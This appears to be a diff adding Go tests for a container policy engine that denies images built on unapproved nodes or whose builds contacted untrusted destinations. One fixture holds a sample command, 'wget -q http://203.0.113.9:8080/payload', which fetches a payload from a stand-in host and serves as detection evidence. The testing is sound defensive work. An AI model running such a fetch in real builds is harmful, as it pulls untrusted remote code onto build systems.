@@ -1,0 +1,88 @@
+package policy
+
+import (
+	"net/netip"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestNodeEvidence(t *testing.T) {
+	p := mustCompile(t, Spec{
+		Registries: Registries{Allow: []string{"ghcr.io/**"}},
+		NodeEvidence: &NodeEvidence{
+			ApprovedBuildNodes:  []string{"ci-runner-*"},
+			TrustedDestinations: []string{"10.0.0.0/8", "*.debian.org", "registry.acme.internal"},
+			BuildWindow:         Duration{5 * time.Minute},
+		},
+	})
+	start := now.Add(-time.Hour)
+	build := func(node string, pids []int, containers []string, conns ...ConnectionEvidence) BuildEvidence {
+		return BuildEvidence{Source: "agent", Node: node, Tool: "docker", ImageID: "sha256:c", MatchedBy: "image-id",
+			Started: start, Finished: start.Add(time.Minute), PIDs: pids, ContainerIDs: containers, Connections: conns}
+	}
+	conn := func(node string, at time.Duration, pid int, container, ip string, port int, name string) ConnectionEvidence {
+		return ConnectionEvidence{Source: "agent", Node: node, Time: start.Add(at), Process: "wget", PID: pid, ContainerID: container,
+			DestIP: netip.MustParseAddr(ip), DestPort: port, DestName: name}
+	}
+	tests := []struct {
+		name   string
+		builds []BuildEvidence
+		want   string
+	}{
+		{"no evidence", nil, ""},
+		{"approved node, trusted egress", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 30*time.Second, 1, "", "10.1.2.3", 443, ""))}, ""},
+		{"built on a worker", []BuildEvidence{build("worker-3", nil, nil)}, "host-built/deny"},
+		{"raw IP during the build", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 8080, ""))}, "untrusted-egress/deny"},
+		{"trusted by name", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 30*time.Second, 42, "", "151.101.2.132", 443, "deb.debian.org"))}, ""},
+		{"within the window after", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 5*time.Minute, 42, "", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
+		{"outside the window", []BuildEvidence{build("ci-runner-1", nil, nil, conn("ci-runner-1", 7*time.Minute, 42, "", "203.0.113.9", 80, ""))}, ""},
+		{"another node", []BuildEvidence{build("ci-runner-1", nil, nil, conn("worker-9", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, ""},
+		{"not the build's process", []BuildEvidence{build("ci-runner-1", []int{100}, nil, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, ""},
+		{"the build's process", []BuildEvidence{build("ci-runner-1", []int{42}, nil, conn("ci-runner-1", 30*time.Second, 42, "", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
+		{"the build's step container (short ID)", []BuildEvidence{build("ci-runner-1", nil, []string{"0123456789abcdef0123"}, conn("ci-runner-1", 30*time.Second, 7, "0123456789ab", "203.0.113.9", 80, ""))}, "untrusted-egress/deny"},
+		{"both at once", []BuildEvidence{build("laptop", nil, nil, conn("laptop", 10*time.Second, 42, "", "203.0.113.9", 80, ""))}, "host-built/deny untrusted-egress/deny"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(now.Add(-2 * time.Hour)), Builds: tt.builds}))
+			if got := strings.Join(rules(v), " "); got != tt.want {
+				t.Errorf("Decide = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestUntrustedEgressEvidence(t *testing.T) {
+	p := mustCompile(t, Spec{Registries: Registries{Allow: []string{"ghcr.io/**"}}, NodeEvidence: &NodeEvidence{ApprovedBuildNodes: []string{"*"}}})
+	start := now.Add(-time.Hour)
+	b := BuildEvidence{Source: "agent", Node: "worker-3", Tool: "docker", ImageID: "sha256:c", MatchedBy: "image-id", Started: start, Finished: start.Add(time.Minute),
+		Connections: []ConnectionEvidence{{Node: "worker-3", Time: start.Add(20 * time.Second), Process: "wget", PID: 4242, Cmdline: "wget -q http://203.0.113.9:8080/payload",
+			DestIP: netip.MustParseAddr("203.0.113.9"), DestPort: 8080}}}
+	v := Decide(p, pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(now.Add(-2 * time.Hour)), Builds: []BuildEvidence{b}}))
+	f := v.Images[0].Findings[0]
+	for _, want := range []string{"worker-3", "wget (pid 4242)", "203.0.113.9:8080", start.Add(20 * time.Second).Format(time.RFC3339)} {
+		if !strings.Contains(f.Message, want) {
+			t.Errorf("message %q does not name %q", f.Message, want)
+		}
+	}
+	if f.Summary != "build on worker-3 connected to 203.0.113.9:8080" {
+		t.Errorf("summary = %q", f.Summary)
+	}
+}
+
+func TestNodeEvidenceConfigErrors(t *testing.T) {
+	for _, tt := range []struct {
+		ne   NodeEvidence
+		want string
+	}{
+		{NodeEvidence{ApprovedBuildNodes: []string{"a b"}}, "nodeEvidence.approvedBuildNodes[0]"},
+		{NodeEvidence{TrustedDestinations: []string{"10.0.0.0/33"}}, "nodeEvidence.trustedDestinations"},
+		{NodeEvidence{BuildWindow: Duration{-time.Second}}, "nodeEvidence.buildWindow"},
+	} {
+		ne := tt.ne
+		if _, err := Compile(Spec{NodeEvidence: &ne}); err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("Compile(%+v) = %v, want an error naming %s", tt.ne, err, tt.want)
+		}
+	}
+}
